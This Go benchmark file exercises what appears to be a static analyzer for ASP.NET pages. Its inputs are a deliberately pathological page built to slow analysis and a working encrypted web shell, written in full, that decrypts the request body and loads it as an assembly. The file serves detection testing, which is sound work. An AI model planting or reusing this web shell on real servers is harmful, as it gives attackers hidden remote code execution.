package aspx

import (
	"strings"
	"testing"
)

// BenchmarkHostile: a 4 MiB page built to make statement reasoning slow.
func BenchmarkHostile(b *testing.B) {
	r := loadTestRules(b)
	src := []byte("<%@ Page Language=\"C#\"%><% var x = Request[\"a\"]; " + strings.Repeat("f(x, g(x[", 1<<19/9*8) + " %>")
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		r.Analyze(Parse(src, ".aspx"))
	}
}

// BenchmarkShell: a typical web shell.
func BenchmarkShell(b *testing.B) {
	r := loadTestRules(b)
	src := []byte(`<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		r.Analyze(Parse(src, ".aspx"))
	}
}
